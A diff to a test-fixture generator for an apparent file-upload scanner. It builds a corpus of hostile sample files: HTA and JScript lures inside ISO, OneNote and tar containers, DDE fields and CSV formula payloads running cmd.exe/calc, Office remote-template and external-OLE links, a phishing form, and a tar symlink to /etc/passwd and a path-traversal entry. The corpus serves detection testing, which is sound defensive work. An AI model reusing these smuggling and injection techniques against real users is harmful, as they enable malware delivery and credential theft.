@@ -181,7 +181,9 @@ export async function ooxml(kind: keyof typeof MAIN, extraParts: readonly ZipIte
   const rels = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
 <Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="${mainPart}"/></Relationships>`;
   const main = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><root xmlns="urn:x"><t>Service report 2024</t></root>`;
-  return zipOf([{ name: '[Content_Types].xml', data: contentTypes }, { name: '_rels/.rels', data: rels }, { name: mainPart, data: main }, ...extraParts]);
+  // An extra part named like the main part replaces it (a document body with fields, say).
+  const body = extraParts.find((part) => part.name === mainPart);
+  return zipOf([{ name: '[Content_Types].xml', data: contentTypes }, { name: '_rels/.rels', data: rels }, body ?? { name: mainPart, data: main }, ...extraParts.filter((part) => part !== body)]);
 }
 
 /** A compound file with the given streams ("/Macros/VBA/_VBA_PROJECT" makes the storages on the way). */
@@ -329,6 +331,16 @@ export const PDFS: Readonly<Record<string, { bytes: () => Buffer; findings: Find
       ),
     findings: ['PDF_AUTO_ACTION', 'PDF_JAVASCRIPT'],
   },
+  'xfa.pdf': {
+    bytes: () =>
+      pdfOf([
+        '<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [] /XFA 4 0 R >> /NeedsRendering true >>',
+        PAGES[1]!,
+        PAGES[2]!,
+        pdfStream('', '<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><subform><event activity="initialize"><script contentType="application/x-javascript">app.alert(1)</script></event></subform></template></xdp:xdp>'),
+      ]),
+    findings: ['PDF_XFA'],
+  },
   'broken-object-stream.pdf': {
     bytes: () => pdfOf([...PAGES, pdfStream('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', Buffer.from('this is not deflate data at all'))]),
     findings: ['PDF_UNPARSEABLE_STREAM'],
@@ -398,20 +410,42 @@ export function shortcut(): Buffer {
   return bytes;
 }
 
-/** A DICOM Part 10 file: preamble, "DICM", a meta group with the transfer syntax, one data element. */
-export function dicom(preamble: Buffer = Buffer.alloc(128), pixels = 64): Buffer {
-  const element = (group: number, elementNumber: number, vr: string, value: Buffer) => {
-    const header = Buffer.alloc(8);
-    header.writeUInt16LE(group, 0);
-    header.writeUInt16LE(elementNumber, 2);
-    header.write(vr, 4, 'latin1');
-    header.writeUInt16LE(value.length, 6);
-    return Buffer.concat([header, value]);
-  };
-  const uid = Buffer.from('1.2.840.10008.1.2.1\0', 'latin1');
+/** VRs whose explicit-VR header has two reserved bytes and a 32-bit length (PS3.5 7.1.2). */
+const LONG_VRS = new Set(['OB', 'OD', 'OF', 'OL', 'OV', 'OW', 'SQ', 'UC', 'UN', 'UR', 'UT', 'SV', 'UV']);
+
+/** One explicit-VR little-endian data element. */
+export function dicomElement(group: number, elementNumber: number, vr: string, value: Buffer | string): Buffer {
+  const bytes = Buffer.from(value);
+  const long = LONG_VRS.has(vr);
+  const header = Buffer.alloc(long ? 12 : 8);
+  header.writeUInt16LE(group, 0);
+  header.writeUInt16LE(elementNumber, 2);
+  header.write(vr, 4, 'latin1');
+  if (long) header.writeUInt32LE(bytes.length, 8);
+  else header.writeUInt16LE(bytes.length, 6);
+  return Buffer.concat([header, bytes]);
+}
+
+/** A DICOM Part 10 file from its data elements (ascending tags), after the preamble, "DICM" and the meta group's transfer syntax. */
+export function dicomOf(elements: readonly Buffer[], preamble: Buffer = Buffer.alloc(128)): Buffer {
   const fixed = Buffer.alloc(128);
   preamble.copy(fixed, 0, 0, 128);
-  return Buffer.concat([fixed, Buffer.from('DICM', 'latin1'), element(0x0002, 0x0010, 'UI', uid), element(0x0010, 0x0010, 'PN', Buffer.from('Anon^Patient', 'latin1')), element(0x7fe0, 0x0010, 'OW', Buffer.alloc(pixels))]);
+  return Buffer.concat([fixed, Buffer.from('DICM', 'latin1'), dicomElement(0x0002, 0x0010, 'UI', '1.2.840.10008.1.2.1\0'), ...elements]);
+}
+
+/** A DICOM Part 10 file: preamble, "DICM", a meta group with the transfer syntax, a patient name and pixel data. */
+export function dicom(preamble: Buffer = Buffer.alloc(128), pixels = 64): Buffer {
+  return dicomOf([dicomElement(0x0010, 0x0010, 'PN', 'Anon^Patient'), dicomElement(0x7fe0, 0x0010, 'OW', Buffer.alloc(pixels))], preamble);
+}
+
+/** A DICOM Encapsulated PDF (PS3.3 A.45): the PDF is the value of Encapsulated Document (0042,0011). */
+export function dicomEncapsulatedPdf(pdf: Buffer): Buffer {
+  return dicomOf([
+    dicomElement(0x0008, 0x0016, 'UI', '1.2.840.10008.5.1.4.1.1.104.1\0'),
+    dicomElement(0x0010, 0x0010, 'PN', 'Anon^Patient'),
+    dicomElement(0x0042, 0x0011, 'OB', pdf.length % 2 === 0 ? pdf : Buffer.concat([pdf, Buffer.alloc(1)])),
+    dicomElement(0x0042, 0x0012, 'LO', 'application/pdf '),
+  ]);
 }
 
 /** The CVE-2019-11687 shape: an MZ header in the preamble whose e_lfanew points at a PE header inside a data element. */
@@ -423,6 +457,162 @@ export function dicomPolyglot(): Buffer {
   file.write('PE\0\0', peAt, 'latin1');
   file.writeUInt16LE(0x14c, peAt + 4);
   return file;
+}
+
+// ─── containers (ISO/OneNote smuggling) ────────────────────────────────────────────────
+
+/** A POSIX ustar archive (512-byte headers with octal fields and the header checksum, two zero blocks at the end). */
+export function tarOf(items: readonly { name: string; data?: Buffer | string; type?: string; linkname?: string }[]): Buffer {
+  const blocks: Buffer[] = [];
+  for (const item of items) {
+    const data = Buffer.from(item.data ?? '');
+    const header = Buffer.alloc(512);
+    header.write(item.name, 0, 100, 'utf8');
+    header.write('0000644\0', 100, 'latin1');
+    header.write('0000000\0', 108, 'latin1');
+    header.write('0000000\0', 116, 'latin1');
+    header.write(`${data.length.toString(8).padStart(11, '0')}\0`, 124, 'latin1');
+    header.write(`${Math.floor(Date.UTC(2024, 0, 1) / 1000).toString(8).padStart(11, '0')}\0`, 136, 'latin1');
+    header.write(item.type ?? '0', 156, 'latin1');
+    if (item.linkname) header.write(item.linkname, 157, 100, 'utf8');
+    header.write('ustar\u000000', 257, 'latin1');
+    header.fill(0x20, 148, 156);
+    let sum = 0;
+    for (const byte of header) sum += byte;
+    header.write(`${sum.toString(8).padStart(6, '0')}\0 `, 148, 'latin1');
+    blocks.push(header, data, Buffer.alloc((512 - (data.length % 512)) % 512));
+  }
+  return Buffer.concat([...blocks, Buffer.alloc(1024)]);
+}
+
+/**
+ * An ISO 9660 image: 32 KiB of system area, a primary volume descriptor ("CD001" at 0x8001),
+ * the set terminator, then the files' bytes (a real image would add a directory; nothing
+ * here reads one — an ISO is blocked as a container that cannot be inspected).
+ */
+export function isoImage(files: readonly { name: string; data: Buffer | string }[]): Buffer {
+  const descriptor = (type: number) => {
+    const sector = Buffer.alloc(2048);
+    sector[0] = type;
+    sector.write('CD001', 1, 'latin1');
+    sector[6] = 1;
+    if (type === 1) sector.write('INVOICE'.padEnd(32, ' '), 40, 'latin1');
+    return sector;
+  };
+  return Buffer.concat([Buffer.alloc(0x8000), descriptor(1), descriptor(255), ...files.flatMap((file) => [Buffer.from(file.name), Buffer.from(file.data)])]);
+}
+
+/** The 512-byte VHD footer ("conectix" cookie, fixed disk type 2). */
+function vhdFooter(): Buffer {
+  const footer = Buffer.alloc(512);
+  footer.write('conectix', 0, 'latin1');
+  footer.writeUInt32BE(2, 60);
+  return footer;
+}
+
+/** A fixed VHD: raw sectors, then the footer. */
+export function vhdFixed(sectors: Buffer): Buffer {
+  return Buffer.concat([sectors, vhdFooter()]);
+}
+
+/** A dynamic VHD starts with a copy of its footer. */
+export function vhdDynamic(): Buffer {
+  return Buffer.concat([vhdFooter(), Buffer.alloc(1024), vhdFooter()]);
+}
+
+export function vhdx(): Buffer {
+  return Buffer.concat([Buffer.from('vhdxfile', 'latin1'), Buffer.alloc(64 * 1024 - 8)]);
+}
+
+/** A raw disk image with an MBR: one FAT32 partition from sector 2048, boot signature 0x55AA. */
+export function mbrDiskImage(): Buffer {
+  const image = Buffer.alloc(4096);
+  image[446] = 0x80;
+  image[446 + 4] = 0x0c;
+  image.writeUInt32LE(2048, 446 + 8);
+  image.writeUInt32LE(65536, 446 + 12);
+  image[510] = 0x55;
+  image[511] = 0xaa;
+  return image;
+}
+
+/** A GPT disk: protective MBR plus "EFI PART" in LBA 1. */
+export function gptDiskImage(): Buffer {
+  const image = mbrDiskImage();
+  image[446] = 0;
+  image[446 + 4] = 0xee;
+  image.write('EFI PART', 512, 'latin1');
+  return image;
+}
+
+/** A OneNote section: the revision-store file format GUID first, an embedded file's bytes later (as in the 2023 campaigns). */
+export function oneNote(embedded: Buffer | string): Buffer {
+  const header = Buffer.alloc(1024);
+  Buffer.from('e4525c7b8cd8a74daeb15378d02996d3', 'hex').copy(header, 0);
+  const fileDataStore = Buffer.from('e716e3bd65261145a4c48d4d0b7a9eac', 'hex'); // FileDataStoreObject GUID
+  return Buffer.concat([header, fileDataStore, Buffer.from(embedded)]);
+}
+
+export function cabinet(): Buffer {
+  const header = Buffer.alloc(64);
+  header.write('MSCF', 0, 'latin1');
+  header.writeUInt32LE(64, 8);
+  header[24] = 3;
+  header[25] = 1;
+  return Buffer.concat([header, Buffer.from('setup.js')]);
+}
+
+export function sevenZip(): Buffer {
+  return Buffer.concat([Buffer.from('377abcaf271c0004', 'hex'), Buffer.alloc(24)]);
+}
+
+export function rar(version: 4 | 5): Buffer {
+  return Buffer.concat([Buffer.from(version === 5 ? '526172211a070100' : '526172211a0700', 'hex'), Buffer.alloc(32)]);
+}
+
+/** Bytes no format claims (a multiplicative pattern, no magic number, not text). */
+export function randomBinary(length = 4096): Buffer {
+  const bytes = Buffer.alloc(length);
+  for (let i = 0; i < length; i++) bytes[i] = (i * 97 + 13) % 256;
+  return bytes;
+}
+
+// ─── active content that used to pass ───────────────────────────────────────────────────
+
+const RELATIONSHIPS_NS = 'http://schemas.openxmlformats.org/package/2006/relationships';
+const OFFICE_RELATIONSHIP = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
+
+/** A .rels part with the given relationships. */
+export function relsPart(relationships: readonly { id: string; type: string; target: string; external?: boolean }[]): string {
+  const items = relationships.map((r) => `<Relationship Id="${r.id}" Type="${OFFICE_RELATIONSHIP}/${r.type}" Target="${r.target}"${r.external ? ' TargetMode="External"' : ''}/>`);
+  return `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="${RELATIONSHIPS_NS}">${items.join('')}</Relationships>`;
+}
+
+/** An OLE Package object ("\x01Ole10Native": size, label, path, data) holding a file, as Office writes it for any dropped file. */
+export function olePackage(fileName: string, data: Buffer | string): Buffer {
+  const payload = Buffer.from(data);
+  const label = Buffer.from(`${fileName}\0`, 'latin1');
+  const path = Buffer.from(`C:\\Users\\x\\${fileName}\0`, 'latin1');
+  const size = Buffer.alloc(4);
+  size.writeUInt32LE(payload.length);
+  const body = Buffer.concat([Buffer.from([2, 0]), label, path, Buffer.from([0, 0, 3, 0]), Buffer.alloc(4, path.length), path, size, payload]);
+  const total = Buffer.alloc(4);
+  total.writeUInt32LE(body.length);
+  return compoundFile({ '/\u0001Ole10Native': Buffer.concat([total, body]) });
+}
+
+const HTA = '<html><head><HTA:APPLICATION ID="x"/><script language="VBScript">CreateObject("WScript.Shell").Run "calc"</script></head></html>';
+
+/** A legacy PowerPoint file whose "PowerPoint Document" stream has a VBAInfo container with fHasMacros = 1 ([MS-PPT] 2.4.16). */
+export function powerPointWithMacros(hasMacros: boolean): Buffer {
+  const atom = Buffer.alloc(20);
+  Buffer.from('020000040c000000', 'hex').copy(atom, 0);
+  atom.writeUInt32LE(1, 8); // persistIdRef
+  atom.writeUInt32LE(hasMacros ? 1 : 0, 12);
+  atom.writeUInt32LE(2, 16);
+  const container = Buffer.concat([Buffer.from('0f00ff0314000000', 'hex'), atom]);
+  const documentContainer = Buffer.concat([Buffer.from('0f00e803', 'hex'), Buffer.from([container.length + 8, 0, 0, 0]), Buffer.from('01001f0400000000', 'hex'), container]);
+  return compoundFile({ '/PowerPoint Document': Buffer.concat([Buffer.alloc(64), documentContainer]), '/Current User': Buffer.alloc(32) });
 }
 
 // ─── the corpus ────────────────────────────────────────────────────────────────────────
@@ -531,7 +721,8 @@ export async function writeCorpus(dir: string): Promise<CorpusEntry[]> {
   // Archives that must be stopped.
   await mkdir(path.join(dir, 'archives'), { recursive: true });
   await writeZerosBomb(path.join(dir, 'archives/bomb.zip'), 'zeros.bin', 3 * 1024);
-  entries.push({ relativePath: 'archives/bomb.zip', expected: { type: 'zip', findings: ['ARCHIVE_RATIO'], innerTypes: ['unknown'] } });
+  // Its one entry is read to its end (a fixed VHD's footer is there) and stopped on the way: no type is recorded.
+  entries.push({ relativePath: 'archives/bomb.zip', expected: { type: 'zip', findings: ['ARCHIVE_RATIO'], innerTypes: [] } });
   const level4 = await zipOf([{ name: 'deep.txt', data: CLEAN_TEXT }]);
   const level3 = await zipOf([{ name: 'l4.zip', data: level4 }]);
   const level2 = await zipOf([{ name: 'l3.zip', data: level3 }]);
@@ -552,6 +743,75 @@ export async function writeCorpus(dir: string): Promise<CorpusEntry[]> {
   });
   await add('archives/zip64.zip', await zipOf([{ name: 'log.txt', data: CLEAN_TEXT, zip64: true }]), { type: 'zip', findings: [], innerTypes: ['txt'] });
   await add('archives/log.txt.gz', zlib.gzipSync(CLEAN_TEXT), { type: 'gz', findings: [], innerTypes: ['txt'] });
+
+  // Smuggling: files blocked at the top level must be blocked inside archives too (ISO/OneNote campaigns).
+  const lure = [{ name: 'invoice.hta', data: HTA }, { name: 'readme.js', data: 'var s = new ActiveXObject("WScript.Shell");\ns.Run("calc");\n' }, { name: 'invoice.pdf.lnk', data: shortcut() }];
+  await add('smuggling/iso-in.zip', await zipOf([{ name: 'invoice.iso', data: isoImage(lure) }]), { type: 'zip', findings: ['CONTAINER_NOT_INSPECTABLE'], innerTypes: ['iso'] });
+  const scriptsTar = tarOf([{ name: 'tools/', type: '5' }, { name: 'tools/run.ps1', data: "Write-Host 'x'\n" }, { name: 'tools/update.hta', data: HTA }]);
+  await add('smuggling/tar-in.zip', await zipOf([{ name: 'scripts.tar', data: scriptsTar }]), { type: 'zip', findings: ['HTML_SCRIPT', 'SCRIPT'], innerTypes: ['tar', 'script'] });
+  await add('smuggling/onenote-in.zip', await zipOf([{ name: 'Invoice.one', data: oneNote(HTA) }]), { type: 'zip', findings: ['CONTAINER_NOT_INSPECTABLE'], innerTypes: ['one'] });
+  const phishing = '<!DOCTYPE html><html><body><form action="https://login.example.invalid/collect" method="post"><input name="user"><input name="password" type="password"></form></body></html>';
+  await add('smuggling/phishing-in.zip', await zipOf([{ name: 'Microsoft365-login.html', data: phishing }]), { type: 'zip', findings: [], innerTypes: ['html'] });
+  await add('smuggling/binary-in.zip', await zipOf([{ name: 'update.dat', data: randomBinary() }]), { type: 'zip', findings: [], innerTypes: ['unknown'] });
+  await add('smuggling/vhd-in.tar.gz', zlib.gzipSync(tarOf([{ name: 'disk.vhd', data: vhdDynamic() }])), { type: 'gz', findings: ['CONTAINER_NOT_INSPECTABLE'], innerTypes: ['tar', 'vhd'] });
+
+  // Containers recognised by content.
+  const containers: [string, Buffer, string][] = [
+    ['containers/invoice.iso', isoImage(lure), 'iso'],
+    ['containers/dynamic.vhd', vhdDynamic(), 'vhd'],
+    ['containers/fixed.vhd', vhdFixed(randomBinary(8192)), 'vhd'],
+    ['containers/disk.vhdx', vhdx(), 'vhdx'],
+    ['containers/mbr.img', mbrDiskImage(), 'img'],
+    ['containers/gpt.img', gptDiskImage(), 'img'],
+    ['containers/notes.one', oneNote(HTA), 'one'],
+    ['containers/setup.cab', cabinet(), 'cab'],
+    ['containers/archive.7z', sevenZip(), '7z'],
+    ['containers/archive.rar', rar(5), 'rar'],
+    ['containers/old.rar', rar(4), 'rar'],
+  ];
+  for (const [relativePath, data, type] of containers) await add(relativePath, data, { type, findings: ['CONTAINER_NOT_INSPECTABLE'] });
+  await add('containers/scripts.tar', scriptsTar, { type: 'tar', findings: ['HTML_SCRIPT', 'SCRIPT'], innerTypes: ['script'] });
+  await add('containers/logs.tar', tarOf([{ name: 'logs/service.log', data: CLEAN_TEXT }, { name: 'logs/results.csv', data: CLEAN_CSV }]), { type: 'tar', findings: [], innerTypes: ['txt', 'csv'] });
+  await add('containers/link.tar', tarOf([{ name: 'passwd', type: '2', linkname: '/etc/passwd' }]), { type: 'tar', findings: ['ARCHIVE_LINK'] });
+  await add('containers/traversal.tar', tarOf([{ name: '../../evil.txt', data: 'x' }]), { type: 'tar', findings: ['ARCHIVE_PATH_TRAVERSAL'], innerTypes: ['txt'] });
+  await add('containers/logs.tar.gz', zlib.gzipSync(tarOf([{ name: 'service.log', data: CLEAN_TEXT }])), { type: 'gz', findings: [], innerTypes: ['tar', 'txt'] });
+
+  // Office active content that no part name gives away.
+  const rels = (part: string, relationships: Parameters<typeof relsPart>[0]) => ({ name: part, data: relsPart(relationships) });
+  await add('office/package-in-media.docx', await ooxml('docx', [{ name: 'word/media/image1.png', data: olePackage('invoice.hta', HTA) }]), { type: 'docx', findings: ['OFFICE_EMBEDDED_OBJECT'] });
+  await add('office/package-custom-part.xlsx', await ooxml('xlsx', [{ name: 'customXml/item9.dat', data: olePackage('run.js', 'WScript.Echo(1);') }]), { type: 'xlsx', findings: ['OFFICE_EMBEDDED_OBJECT'] });
+  await add('office/external-ole.docx', await ooxml('docx', [rels('word/_rels/document.xml.rels', [{ id: 'rId9', type: 'oleObject', target: 'http://203.0.113.7/template.rtf', external: true }])]), { type: 'docx', findings: ['OFFICE_EXTERNAL_OBJECT'] });
+  await add('office/remote-template.docx', await ooxml('docx', [rels('word/_rels/settings.xml.rels', [{ id: 'rId1', type: 'attachedTemplate', target: 'https://templates.example.invalid/normal.dotm', external: true }])]), { type: 'docx', findings: ['OFFICE_REMOTE_TEMPLATE'] });
+  await add('office/altchunk.docx', await ooxml('docx', [rels('word/_rels/document.xml.rels', [{ id: 'rId5', type: 'aFChunk', target: 'afchunk.mht' }]), { name: 'word/afchunk.mht', data: '<html><body><script>alert(1)</script></body></html>' }]), { type: 'docx', findings: ['OFFICE_ALTCHUNK'] });
+  const slide = '<?xml version="1.0"?><p:sld xmlns:p="urn:p" xmlns:a="urn:a" xmlns:r="urn:r"><p:cSld><p:spTree><p:sp><p:nvSpPr><p:cNvPr id="2" name="Play"><a:hlinkClick r:id="rId2" action="ppaction://program"/></p:cNvPr></p:nvSpPr></p:sp></p:spTree></p:cSld></p:sld>';
+  await add('office/ppaction.pptx', await ooxml('pptx', [{ name: 'ppt/slides/slide1.xml', data: slide }, rels('ppt/slides/_rels/slide1.xml.rels', [{ id: 'rId2', type: 'hyperlink', target: 'file:///C:/Windows/System32/calc.exe', external: true }])]), { type: 'pptx', findings: ['OFFICE_DANGEROUS_LINK'] });
+  await add('office/unc-link.docx', await ooxml('docx', [rels('word/_rels/document.xml.rels', [{ id: 'rId3', type: 'hyperlink', target: '\\\\files.example.invalid\\share\\report.exe', external: true }])]), { type: 'docx', findings: ['OFFICE_DANGEROUS_LINK'] });
+  await add('office/web-link.docx', await ooxml('docx', [rels('word/_rels/document.xml.rels', [{ id: 'rId3', type: 'hyperlink', target: 'https://www.example.com/manual?a=1&amp;b=2', external: true }])]), { type: 'docx', findings: [] });
+  const wordBody = (runs: string) => `<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p>${runs}</w:p></w:body></w:document>`;
+  const splitDde = '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> DD</w:instrText></w:r><w:r><w:instrText>EAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>';
+  await add('office/dde.docx', await ooxml('docx', [{ name: 'word/document.xml', data: wordBody(splitDde) }]), { type: 'docx', findings: ['OFFICE_DDE'] });
+  await add('office/dde-simple.docx', await ooxml('docx', [{ name: 'word/document.xml', data: wordBody('<w:fldSimple w:instr=" DDE cmd.exe &quot;/c calc&quot; x"><w:r><w:t>1</w:t></w:r></w:fldSimple>') }]), { type: 'docx', findings: ['OFFICE_DDE'] });
+  await add('office/field.docx', await ooxml('docx', [{ name: 'word/document.xml', data: wordBody('<w:r><w:instrText> PAGE \\* MERGEFORMAT </w:instrText></w:r>') }]), { type: 'docx', findings: [] });
+  await add('office/ddelink.xlsx', await ooxml('xlsx', [{ name: 'xl/externalLinks/externalLink1.xml', data: '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><ddeLink ddeService="cmd" ddeTopic="/c calc"><ddeItems><ddeItem name="A0" advise="1"/></ddeItems></ddeLink></externalLink>' }]), { type: 'xlsx', findings: ['OFFICE_DDE'] });
+  await add('office/dde-formula.xlsx', await ooxml('xlsx', [{ name: 'xl/worksheets/sheet1.xml', data: "<worksheet><sheetData><row r=\"1\"><c r=\"A1\"><f>cmd|' /C calc'!A0</f></c></row></sheetData></worksheet>" }]), { type: 'xlsx', findings: ['OFFICE_DDE'] });
+  await add('office/macro.ppt', powerPointWithMacros(true), { type: 'ppt', findings: ['OFFICE_MACRO'] });
+  await add('office/clean.ppt', powerPointWithMacros(false), { type: 'ppt', findings: [] });
+
+  // Text that is more than text.
+  const rtfObject = '{\\rtf1\\ansi\\deff0{\\object\\objemb{\\*\\objclass Package}\\objw100\\objh100{\\*\\objdata 0105000002000000080000005061636b61676500}}}';
+  await add('text/embedded-object.txt', rtfObject, { type: 'rtf', findings: ['EXTENSION_MISMATCH', 'RTF_EMBEDDED_OBJECT'] });
+  await add('text/report.rtf', '{\\rtf1\\ansi Service report\\par All checks passed.\\par}', { type: 'rtf', findings: [] });
+  await add('text/xhtml-script.xml', '<?xml version="1.0"?>\n<report xmlns:h="http://www.w3.org/1999/xhtml"><h:script>alert(1)</h:script></report>\n', { type: 'xml', findings: ['XML_SCRIPT'] });
+  await add('text/remote-stylesheet.xml', '<?xml version="1.0"?>\n<?xml-stylesheet type="text/xsl" href="https://xsl.example.invalid/report.xsl"?>\n<report><result>ok</result></report>\n', { type: 'xml', findings: ['XML_REMOTE_STYLESHEET'] });
+  await add('text/local-stylesheet.xml', '<?xml version="1.0"?>\n<?xml-stylesheet type="text/xsl" href="report.xsl"?>\n<report><result>ok</result></report>\n', { type: 'xml', findings: [] });
+  await add('text/formula.csv', "device,result\nCT-7,=cmd|' /C calc'!A0\nMR-3,ok\n", { type: 'csv', findings: ['CSV_FORMULA'] });
+  await add('text/at-formula.csv', 'device;note\nCT-7;"\t@SUM(1+1)*cmd|\'/C calc\'!A0"\nMR-3;ok\n', { type: 'csv', findings: ['CSV_FORMULA'] });
+  await add('text/signed-numbers.csv', 'date,delta,phone\n2024-01-01,-5,+81-3-1234-5678\n2024-01-02,+3,-\n', { type: 'csv', findings: [] });
+
+  // DICOM: what the data set carries and what follows it.
+  await add('dicom/encapsulated-pdf.dcm', dicomEncapsulatedPdf(PDFS['object-stream.pdf']!.bytes()), { type: 'dicom', findings: ['PDF_AUTO_ACTION', 'PDF_JAVASCRIPT'], innerTypes: ['pdf'] });
+  await add('dicom/encapsulated-clean.dcm', dicomEncapsulatedPdf(PDFS['clean.pdf']!.bytes()), { type: 'dicom', findings: [], innerTypes: ['pdf'] });
+  await add('dicom/trailing-zip.dcm', Buffer.concat([dicom(), await zipOf([{ name: 'run.js', data: 'WScript.Echo(1);' }])]), { type: 'dicom', findings: ['DICOM_TRAILING_DATA'] });
 
   // The clean set of every allowed type.
   const clean: [string, Buffer | string, string][] = [
